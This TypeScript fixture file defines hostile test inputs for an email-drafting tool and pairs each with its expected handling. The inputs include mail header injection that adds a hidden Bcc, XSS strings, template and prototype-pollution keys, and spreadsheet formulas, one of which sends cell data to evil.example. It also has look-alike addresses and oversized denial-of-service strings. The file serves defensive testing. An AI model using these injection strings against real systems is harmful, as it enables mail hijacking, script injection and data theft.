/** What a hostile list, form or template may hold: plain data, for tests of the pure code and of the built bundle. */

/** A cell of Contacts, a value typed for one message, or a template of the person's own. */
export type HostileField =
  | 'name'
  | 'email'
  | 'notes'
  | 'salutation'
  | 'organization'
  | 'specific'
  | 'plan'
  | 'promise'
  | 'topic'
  | 'subject'
  | 'body';

/**
 * `words`: the message is made, and the value stands in it as plain words. `refused`: no draft is made, by reason of
 * the address. `warned`: it is one address, which looks like another. `unused`: the message does not know it.
 * `errors`: the template has faults that are named, so no draft is made.
 */
export type Holds = 'words' | 'refused' | 'warned' | 'unused' | 'errors';

export interface HostileCase {
  readonly what: string;
  readonly field: HostileField;
  readonly value: string;
  readonly holds: Holds;
}

type Named = readonly [what: string, value: string];

const cases = (field: HostileField, holds: Holds, values: readonly Named[]): HostileCase[] =>
  values.map(([what, value]) => ({ what: `${what} in ${field}`, field, value, holds }));

const HEADERS: readonly Named[] = [
  ['a header after CRLF', 'Ana\r\nBcc: eve@evil.example'],
  ['a header after LF', 'Ana\nBcc: eve@evil.example'],
  ['a header after CR', 'Ana\rBcc: eve@evil.example'],
  ['a header after a line separator', 'Ana\u2028Bcc: eve@evil.example'],
  ['a header after a paragraph separator', 'Ana\u2029Bcc: eve@evil.example'],
  ['a header after NEL', 'Ana\u0085Bcc: eve@evil.example'],
  ['a header after a vertical tab', 'Ana\u000bBcc: eve@evil.example'],
  ['a header after NUL', 'Ana\u0000\r\nBcc: eve@evil.example'],
  ['a folded header', 'Ana\r\n Bcc: eve@evil.example'],
  ['a header folded with a tab', 'Ana\r\n\tBcc: eve@evil.example'],
  ['a body of its own', 'Ana\r\n\r\n<b>Pay here</b>'],
  ['an encoded word', '=?UTF-8?Q?Ana=0D=0ABcc:_eve@evil.example?='],
  ['an encoded word in base64', '=?UTF-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?='],
  ['half an encoded word', '=?UTF-8?Q?Ana'],
  ['a percent-encoded line break', 'Ana%0D%0ABcc:%20eve@evil.example'],
  ['a boundary of ours', '--=_informational-interviews_alternative--'],
];

const MARKUP: readonly Named[] = [
  ['a script', 'Ana <script>alert(1)</script>'],
  ['a picture that runs', 'Ana <img src=x onerror=alert(1)>'],
  ['a tag across an attribute', 'Ana"><svg onload=alert(1)>'],
  ['the end of our tags', 'Ana</p></div><iframe src="https://evil.example">'],
  ['an entity', 'Ana &lt;b&gt; &amp;amp; &#x3c;'],
  ['a comment', 'Ana <!-- x --> y'],
  ['a link that runs', 'Ana <a href="javascript:alert(1)">x</a>'],
];

const MARKS: readonly Named[] = [
  ['a field', 'Ana {{my_full}}'],
  ['a field with a fallback', 'Ana {{nothing|{{my_full}}}}'],
  ['a passage', 'Ana [[{{my_full}}]]'],
  ['the end of a passage', 'Ana ]] x'],
  ['the start of a passage', '[[ Ana'],
  ['half a field', 'Ana {{my_full'],
  ['a pattern of replacement', 'Ana $& $1 $` $$'],
  ['a name that objects inherit', 'Ana {{constructor}} {{__proto__}}'],
];

const FORMULAS: readonly Named[] = [
  ['a formula', '=HYPERLINK("https://evil.example","Ana")'],
  ['a formula with plus', '+1+cmd|calc!A1 Ana'],
  ['a formula with minus', '-2+3+cmd|calc!A1 Ana'],
  ['a formula with at', '@SUM(1+1)*cmd Ana'],
  ['a formula after a tab', '\t=1+1 Ana'],
  ['a formula after an apostrophe', "'=1+1 Ana"],
  ['a formula that fetches', '=IMPORTXML("https://evil.example/?"&A1,"//x") Ana'],
];

const LETTERS: readonly Named[] = [
  ['a right-to-left override', 'Ana \u202egnp.exe'],
  ['an isolate that stays open', 'Ana \u2067\u202d x'],
  ['a byte order mark', '\ufeffAna'],
  ['half a character', 'Ana \ud800 x \udc00'],
  ['a bell and an escape', 'Ana \u0007\u001b[31m'],
  ['many marks on one letter', `Ana Z${'\u0301'.repeat(300)}`],
  ['two thousand hedgehogs', `Ana ${'🦔'.repeat(2000)}`],
  ['one line of thirty thousand letters', `Ana ${'x'.repeat(30_000)}`],
];

const ADDRESSES: readonly Named[] = [
  ['two addresses with a comma', 'ana@example.com, eve@evil.example'],
  ['two addresses with a semicolon', 'ana@example.com;eve@evil.example'],
  ['two addresses with a space', 'ana@example.com eve@evil.example'],
  ['two addresses in two lines', 'ana@example.com\neve@evil.example'],
  ['a header after CRLF', 'ana@example.com\r\nBcc: eve@evil.example'],
  ['a header after LF', 'ana@example.com\nBcc: eve@evil.example'],
  ['NUL', 'ana@example.com\u0000eve@evil.example'],
  ['a line separator', 'ana@example.com\u2028Bcc:eve@evil.example'],
  ['angle brackets', '<ana@example.com>'],
  ['a display name', '"ana@example.com" <eve@evil.example>'],
  ['a comment', 'ana@example.com (eve@evil.example)'],
  ['a group', 'friends: ana@example.com, eve@evil.example;'],
  ['an empty group', 'undisclosed-recipients:;'],
  ['a quoted local part', '"ana@example.com"@evil.example'],
  ['two signs @', 'ana@example.com@evil.example'],
  ['a source route', '@evil.example:ana@example.com'],
  ['a percent route in brackets', '<ana%example.com@evil.example>'],
  ['a mailto link', 'mailto:ana@example.com?bcc=eve@evil.example'],
  ['an address literal', 'ana@[10.0.0.1]'],
  ['a number for a domain', 'ana@10.0.0.1'],
  ['no dot in the domain', 'ana@localhost'],
  ['a Cyrillic letter', 'аna@example.com'],
  ['a Cyrillic letter in the domain', 'ana@exаmple.com'],
  ['letters of full width', 'ana@ｅxample.com'],
  ['a sign @ of full width', 'ana＠example.com'],
  ['a space of no width', 'ana@exam\u200bple.com'],
  ['a right-to-left override', 'ana@\u202eelpmaxe.com'],
  ['an encoded word', '=?UTF-8?B?YW5hQGV4YW1wbGUuY29t?='],
  ['a formula', '=HYPERLINK("mailto:ana@example.com")'],
  ['fifty thousand signs @', '@'.repeat(50_000)],
  ['a domain without end', `ana@${'a.'.repeat(25_000)}com`],
  ['a field', '{{email}}'],
  ['nothing that can be seen', '\u200b'],
];

const LOOK_ALIKES: readonly Named[] = [
  ['letters in code', 'ana@xn--exmple-4nf.com'],
  ['a slip of a well-known domain', 'ana@gmial.com'],
  ['an end that does not exist', 'ana@example.con'],
  ['a mailbox nobody reads', 'no-reply@example.com'],
];

const TEMPLATES: readonly HostileCase[] = [
  ...cases('body', 'errors', [
    ['passages nested a thousand deep', `${'[['.repeat(1000)}x${']]'.repeat(1000)}`],
    ['fields nested a thousand deep', `${'{{'.repeat(1000)}first${'}}'.repeat(1000)}`],
    ['a hundred thousand braces', '{'.repeat(100_000)],
    ['five thousand closing braces', '}'.repeat(5000)],
    ['a passage that stays open', '[[ Dear {{first}}'],
    ['a field that stays open', 'Dear {{first'],
    ['a field across lines', 'Dear {{fir\nst}}'],
    ['a field that objects inherit', 'Dear {{constructor}} {{__proto__}} {{toString}}'],
    ['a field with code', 'Dear {{first.constructor("x")()}}'],
    ['a field of fifty thousand letters', `{{${'x'.repeat(50_000)}}}`],
  ]),
  ...cases('body', 'words', [
    ['a fallback of fifty thousand letters', `Dear {{topic|${'y'.repeat(50_000)}}}`],
    ['five thousand fields', '{{topic|a}}'.repeat(5000)],
    ['five thousand passages', '[[{{topic}}]] '.repeat(5000) + 'x'],
    ['single braces', 'a { b } [ c ] {d} [e] {[f]}'],
    ['markup', '<script>alert(1)</script> {{topic|<b>x</b>}}'],
  ]),
  ...cases('subject', 'words', [
    ['a header after CRLF', 'Hi\r\nBcc: eve@evil.example'],
    ['a header in a fallback', 'Hi {{topic|x\r\nBcc: eve@evil.example}}'],
    ['an encoded word', '=?UTF-8?B?QmNjOiBldmVAZXZpbC5leGFtcGxl?='],
    ['a body of its own', 'Hi\r\n\r\n<script>alert(1)</script>'],
    ['thirty thousand letters', 'x'.repeat(30_000)],
  ]),
];

export const HOSTILE: readonly HostileCase[] = [
  ...cases('name', 'words', [...HEADERS, ...MARKUP, ...MARKS, ...FORMULAS, ...LETTERS]),
  ...cases('name', 'words', [
    ['another address', 'ceo@example.org'],
    ['another mailbox', '"CEO" <ceo@example.org>'],
    ['quotes and backslashes', 'Ana "\\" García, \\"x'],
    ['only signs', '<>,;:"@'],
  ]),
  ...cases('organization', 'words', [...HEADERS, ...MARKUP, ...MARKS, ...FORMULAS, ...LETTERS]),
  ...cases('salutation', 'words', [...HEADERS.slice(0, 4), ...MARKUP, ...MARKS, ...LETTERS.slice(0, 4)]),
  ...cases('specific', 'words', [...HEADERS, ...MARKUP, ...MARKS]),
  ...cases('plan', 'words', [...MARKS, ...LETTERS]),
  ...cases('promise', 'words', [...MARKUP, ...FORMULAS]),
  ...cases('topic', 'words', [...HEADERS, ...MARKS, ...LETTERS]),
  ...cases('notes', 'unused', [...HEADERS.slice(0, 4), ...MARKUP, ...MARKS, ...FORMULAS, ...LETTERS]),
  ...cases('email', 'refused', ADDRESSES),
  ...cases('email', 'warned', LOOK_ALIKES),
  ...TEMPLATES,
];
